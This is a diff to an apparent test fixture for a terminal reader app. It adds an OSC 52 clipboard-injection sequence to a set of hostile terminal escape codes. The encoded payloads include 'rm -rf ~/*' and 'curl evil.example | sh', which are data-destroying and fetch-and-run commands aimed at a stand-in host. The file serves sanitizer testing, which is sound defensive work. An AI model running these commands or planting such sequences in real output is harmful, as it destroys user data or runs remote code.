@@ -18,6 +18,7 @@ from tuireader.library import Library
 OSC_TITLE = "\x1b]0;PWNED-TITLE\x07"  # set the window (pane) title, ended by BEL
 OSC_TITLE_ST = "\x1b]2;PWNED-ST\x1b\\"  # the same, ended by ST
 OSC_CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"rm -rf ~/*").decode() + "\x07"  # set the clipboard
+OSC_CLIPBOARD_ST = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x1b\\"
 CLEAR_SCREEN = "\x1b[2J\x1b[H"
 C1_CSI = "\x9b2J"  # a CSI as the single C1 character
 C1_OSC = "\x9d0;PWNED-C1\x9c"  # OSC ... ST as C1 characters
@@ -27,6 +28,7 @@ SEQUENCES = {
     "osc-title": OSC_TITLE,
     "osc-title-st": OSC_TITLE_ST,
     "osc-clipboard": OSC_CLIPBOARD,
+    "osc-clipboard-st": OSC_CLIPBOARD_ST,
     "clear-screen": CLEAR_SCREEN,
     "c1-csi": C1_CSI,
     "c1-osc": C1_OSC,
